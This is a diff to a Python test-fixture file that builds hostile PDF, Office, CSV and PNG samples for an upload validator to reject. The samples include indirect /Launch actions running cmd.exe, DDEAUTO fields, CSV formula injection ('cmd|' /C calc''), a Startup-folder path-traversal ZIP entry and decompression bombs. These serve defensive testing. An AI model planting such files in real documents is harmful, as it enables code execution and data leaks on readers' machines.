@@ -226,9 +226,9 @@ def docx_entries():
 
 
 @functools.cache
-def png_of_size(width, height, colour_type=6, bands=4):
+def png_of_size(width, height, colour_type=6, bands=4, depth=8):
     """A valid PNG of ``width`` × ``height`` black pixels, written without
-    ever holding its pixels in memory."""
+    ever holding its pixels in memory; ``bands`` is its bytes a pixel."""
     import zlib
 
     def chunk(kind, data):
@@ -243,7 +243,7 @@ def png_of_size(width, height, colour_type=6, bands=4):
     row = b"\x00" * (1 + width * bands)
     pixels = b"".join(compressor.compress(row) for _ in range(height))
     pixels += compressor.flush()
-    header = struct.pack(">IIBBBBB", width, height, 8, colour_type, 0, 0, 0)
+    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
     return (
         b"\x89PNG\r\n\x1a\n"
         + chunk(b"IHDR", header)
@@ -316,6 +316,18 @@ def link_annotation(action):
     )
 
 
+def indirect_name_pdf(page, name):
+    """A PDF whose page holds ``page``, which points to object 4: ``name``."""
+    return raw_pdf(
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R >>",
+            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b">>",
+            4: name,
+        }
+    )
+
+
 def hostile_pdfs():
     """PDFs with active content, each hidden in another way."""
     return [
@@ -381,6 +393,56 @@ def hostile_pdfs():
                 b"/F (outil.exe) /EF << /F 4 0 R >> >>] >> >> "
             ),
         ),
+        # Action types and subtypes written elsewhere, behind a reference.
+        (
+            "lancement-indirect.pdf",
+            indirect_name_pdf(
+                link_annotation(
+                    b"<< /S 4 0 R /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
+                ),
+                b"/Launch",
+            ),
+        ),
+        (
+            "envoi-indirect.pdf",
+            indirect_name_pdf(
+                link_annotation(
+                    b"<< /S 4 0 R /F << /FS /URL /F (https://example.com/) >> >>"
+                ),
+                b"/SubmitForm",
+            ),
+        ),
+        (
+            "type-indirect.pdf",
+            indirect_name_pdf(
+                b"/Annots [<< /Type /Annot /Subtype 4 0 R /Rect [0 0 9 9] >>] ",
+                b"/RichMedia",
+            ),
+        ),
+        # A key given twice: pypdf keeps the first /S, some viewers the last.
+        (
+            "ouverture-en-double.pdf",
+            pdf_bytes(
+                b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /URI /URI "
+                b"(https://example.com/pixel) >> "
+            ),
+        ),
+        (
+            "ouverture-en-double-2.pdf",
+            pdf_bytes(
+                b"/OpenAction << /S /URI /URI (https://example.com/pixel) /S /GoTo "
+                b"/D [3 0 R /Fit] >> "
+            ),
+        ),
+        (
+            "lien-en-double.pdf",
+            pdf_bytes(
+                page=link_annotation(
+                    b"<< /S /URI /URI (https://eduscol.education.fr/) /S /Launch "
+                    b"/F (cmd.exe) >>"
+                )
+            ),
+        ),
         (
             "media-riche.pdf",
             pdf_bytes(
@@ -391,13 +453,13 @@ def hostile_pdfs():
     ]
 
 
-def encrypted_pdf(to_open=True):
+def encrypted_pdf(to_open=True, algorithm="RC4-128", pdf=None):
     """A protected PDF; without a password ``to_open``, anyone may open it
     (only printing or copying is restricted)."""
     from pypdf import PdfReader, PdfWriter
 
-    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
-    writer.encrypt("secret" if to_open else "", "proprio", algorithm="RC4-128")
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf or pdf_bytes())))
+    writer.encrypt("secret" if to_open else "", "proprio", algorithm=algorithm)
     buffer = io.BytesIO()
     writer.write(buffer)
     return buffer.getvalue()
@@ -486,6 +548,160 @@ def hostile_office_files():
     ]
 
 
+SHEET_CONTENT_TYPE = (
+    "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+)
+STRICT_WORD_NS = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
+STRICT_SHEET_NS = b"http://purl.oclc.org/ooxml/spreadsheetml/main"
+DDE_FIELD = (
+    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> '
+    b'DDEAUTO c:\\\\Windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r>'
+    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
+FORMULA_CELL = b'<c r="B2"><f>HYPERLINK("https://example.com/?"&amp;A1,"Voir")</f></c>'
+
+
+def moved_sheet_xlsx():
+    """A workbook whose sheet lies in xl/feuilles/, as its relationships and
+    content types say: Excel opens it and runs its formula."""
+    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(FORMULA_CELL))) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml")
+        workbook = archive.read("xl/workbook.xml")
+    workbook = workbook.replace(
+        b'sheetId="1"/>',
+        b'sheetId="1" r:id="rId1"/>',
+    ).replace(
+        b"<workbook ", b'<workbook xmlns:r="' + RELATIONSHIP_TYPES.encode() + b'" '
+    )
+    return zip_bytes(
+        {
+            "[Content_Types].xml": CONTENT_TYPES.replace(
+                b"</Types>",
+                b'<Override PartName="/xl/feuilles/sheet1.xml" ContentType="'
+                + SHEET_CONTENT_TYPE.encode()
+                + b'"/></Types>',
+            ),
+            "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml", False)),
+            "xl/workbook.xml": workbook,
+            "xl/_rels/workbook.xml.rels": relationships(
+                ("worksheet", "feuilles/sheet1.xml", False)
+            ),
+            "xl/feuilles/sheet1.xml": sheet,
+        }
+    )
+
+
+def moved_document_docx(body=DDE_FIELD):
+    """A Word document whose main part is contenu/document.xml."""
+    entries = docx_entries()
+    document = entries.pop("word/document.xml").replace(
+        b"</w:body>", body + b"</w:body>"
+    )
+    del entries["word/_rels/document.xml.rels"]
+    return zip_bytes(
+        {
+            **entries,
+            "_rels/.rels": relationships(
+                ("officeDocument", "contenu/document.xml", False)
+            ),
+            "contenu/document.xml": document,
+            "contenu/_rels/document.xml.rels": relationships(),
+            "word/styles.xml": b'<w:styles xmlns:w="' + WORD_NS + b'"/>',
+        }
+    )
+
+
+def strict_docx(body=b""):
+    """A Word document in Strict OOXML (other namespaces)."""
+    with zipfile.ZipFile(io.BytesIO(docx_bytes(body))) as archive:
+        entries = {name: archive.read(name) for name in archive.namelist()}
+    entries["word/document.xml"] = entries["word/document.xml"].replace(
+        WORD_NS, STRICT_WORD_NS
+    )
+    return zip_bytes(entries)
+
+
+def strict_xlsx(cell):
+    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(cell))) as archive:
+        entries = {name: archive.read(name) for name in archive.namelist()}
+    ns = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    return zip_bytes(
+        {
+            name: content.replace(ns, STRICT_SHEET_NS)
+            for name, content in entries.items()
+        }
+    )
+
+
+def unicode_path_docx(real_name, shown_name="word/media/notes.txt"):
+    """A Word document holding an entry whose Info-ZIP Unicode Path field
+    names it otherwise than its header does."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in docx_entries().items():
+            archive.writestr(name, content)
+        info = zipfile.ZipInfo(shown_name)
+        name = real_name.encode()
+        info.extra = (
+            struct.pack(
+                "<HHBI", 0x7075, 5 + len(name), 1, zlib.crc32(shown_name.encode())
+            )
+            + name
+        )
+        archive.writestr(info, b"@echo off\r\ncalc\r\n")
+    return buffer.getvalue()
+
+
+def hidden_office_files():
+    """Active content in parts Word and Excel find wherever they lie, in
+    Strict OOXML, or under names the first checks did not expect."""
+    return [
+        ("feuille-deplacee.xlsx", moved_sheet_xlsx(), "formules"),
+        ("document-deplace.docx", moved_document_docx(), "macros"),
+        ("dde-strict.docx", strict_docx(DDE_FIELD), "macros"),
+        ("formule-strict.xlsx", strict_xlsx(FORMULA_CELL), "formules"),
+        (
+            "rels-majuscules.docx",
+            docx_bytes(
+                **{
+                    "word/settings.xml": b'<w:settings xmlns:w="' + WORD_NS + b'"/>',
+                    "word/_rels/settings.xml.RELS": relationships(
+                        ("attachedTemplate", "https://example.com/modele.dotm", True)
+                    ),
+                }
+            ),
+            "autre adresse",
+        ),
+        (
+            "objet-ole.docx",
+            docx_bytes(**{"word/embeddings/oleObject1.dat": OLE_DOC}),
+            "programmes",
+        ),
+        (
+            "objet-renomme.docx",
+            docx_bytes(**{"word/media/image9.png": OLE_DOC}),
+            "programmes",
+        ),
+        (
+            "connexion.xlsx",
+            xlsx_bytes(
+                **{
+                    "xl/connections.xml": b'<connections xmlns="http://schemas.'
+                    b'openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
+                    b'name="q" type="4" refreshOnLoad="1"><webPr url="https://'
+                    b'example.com/data"/></connection></connections>'
+                }
+            ),
+            "autre adresse",
+        ),
+        (
+            "nom-unicode.docx",
+            unicode_path_docx("../../../Startup/x.bat"),
+            "noms dangereux",
+        ),
+    ]
+
+
 XML_BOMB = (
     b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b '
     b'"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>'
@@ -522,6 +738,11 @@ CSV_FORMULAS = [
     ("tabulation.csv", 'élève;note\nA.;"\t=1+1"\n'),
     ("retour.csv", 'élève;note\nA.;"\r=WEBSERVICE(""https://example.com"")"\n'),
     ("pleine-chasse.csv", "élève;note\nA.;＝1+1\n"),
+    # A byte-order mark before "=", and a separator Excel reads from "sep=".
+    ("marque-utf8.csv", '\ufeff=HYPERLINK("https://example.com/?x","Voir");note\n'),
+    ("separateur.csv", "sep=!\nnom!note\nA.!=1+1\n"),
+    ("separateur-lettre.csv", "sep=x\nnomxnote\nA.x=cmd|' /C calc'!A0\n"),
+    ("unite-piegee.csv", "élève;solde\nA.;-12 € +cmd|' /C calc'!A0\n"),
 ]
 
 
@@ -676,6 +897,18 @@ def second_pass():
     good = [
         # A link the reader clicks, and opening at the first page, are fine.
         Sample("lien.pdf", pdf_bytes(page=link_annotation(link)), "document", True),
+        # As LibreOffice writes links, and a "next page" button.
+        Sample(
+            "liens-libreoffice.pdf",
+            pdf_bytes(
+                page=b"/Annots [<< /Type /Annot /Subtype /Link /F 4 /Rect [0 0 9 9] "
+                b"/A << /Type /Action /S /URI /URI (https://eduscol.education.fr/) >> "
+                b">> << /Type /Annot /Subtype /Link /Rect [0 9 9 18] /A << /S /Named "
+                b"/N /NextPage >> >>] "
+            ),
+            "document",
+            True,
+        ),
         Sample(
             "ouverture.pdf",
             pdf_bytes(b"/OpenAction [3 0 R /Fit] "),
@@ -689,7 +922,20 @@ def second_pass():
             True,
         ),
         Sample("restreint.pdf", encrypted_pdf(to_open=False), "document", True),
+        # AES, as recent exports protect against printing or editing.
+        *(
+            Sample(
+                f"restreint-{algorithm.lower()}.pdf",
+                encrypted_pdf(to_open=False, algorithm=algorithm),
+                "document",
+                True,
+            )
+            for algorithm in ("AES-128", "AES-256")
+        ),
         Sample("notes.xlsx", xlsx_bytes(), "document", True),
+        Sample("strict.docx", strict_docx(), "document", True),
+        Sample("strict.xlsx", strict_xlsx(b""), "document", True),
+        Sample("deplace.docx", moved_document_docx(body=b""), "document", True),
         Sample("notes.ods", ods_bytes(), "document", True),
         Sample(
             "annuaire.csv",
@@ -701,6 +947,18 @@ def second_pass():
             "document",
             True,
         ),
+        Sample(
+            "cooperative.csv",
+            "élève;solde;sortie\nA.;-12,50 €;-3 °C\nB.;+2 €;-5 %\n".encode(),
+            "document",
+            True,
+        ),
+        Sample(
+            "excel.csv",
+            "\ufeffsep=;\nélève;note\nA.;-2\n".encode(),
+            "document",
+            True,
+        ),
     ]
     hostile = [
         *(
@@ -708,6 +966,25 @@ def second_pass():
             for name, data in hostile_pdfs()
         ),
         Sample("protege.pdf", encrypted_pdf(), "document", False, "mot de passe"),
+        Sample(
+            "protege-aes.pdf",
+            encrypted_pdf(algorithm="AES-256"),
+            "document",
+            False,
+            "mot de passe",
+        ),
+        # Decrypted with the empty password, then judged like any other.
+        Sample(
+            "script-aes.pdf",
+            encrypted_pdf(
+                to_open=False,
+                algorithm="AES-256",
+                pdf=pdf_bytes(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
+            ),
+            "document",
+            False,
+            "scripts",
+        ),
         Sample(
             "illisible.pdf",
             b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",
@@ -733,7 +1010,26 @@ def second_pass():
             Sample(name, data, "document", False, "noms dangereux")
             for name, data in hostile_archives()
         ),
-        Sample("grande.png", png_of_size(6000, 6000), "image", False, "mémoire"),
+        *(
+            Sample(name, data, "document", False, message)
+            for name, data, message in hidden_office_files()
+        ),
+        # 16-bit grey: small on disk, 72 MB decoded, and 4 bytes a pixel
+        # twice more when converted for storage.
+        Sample(
+            "grande.png",
+            png_of_size(6000, 6000, colour_type=0, bands=2, depth=16),
+            "image",
+            False,
+            "mémoire",
+        ),
+        Sample(
+            "seize-bits.png",
+            png_of_size(6300, 6300, colour_type=0, bands=2, depth=16),
+            "image",
+            False,
+            "mémoire",
+        ),
         Sample("animation.png", animation_bytes(), "image", False, "image"),
         Sample("animation.webp", animation_bytes("WEBP"), "image", False, "animation"),
         *(
